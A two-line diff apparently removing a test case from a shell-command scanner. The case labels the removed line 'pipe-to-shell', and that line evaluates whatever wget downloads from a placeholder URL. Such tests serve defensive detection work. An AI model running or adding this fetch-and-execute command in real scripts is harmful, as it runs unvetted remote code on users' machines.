@@ -1,2 +1,0 @@
-# expect: pipe-to-shell
-eval "$(wget -qO - https://example.com/x)"
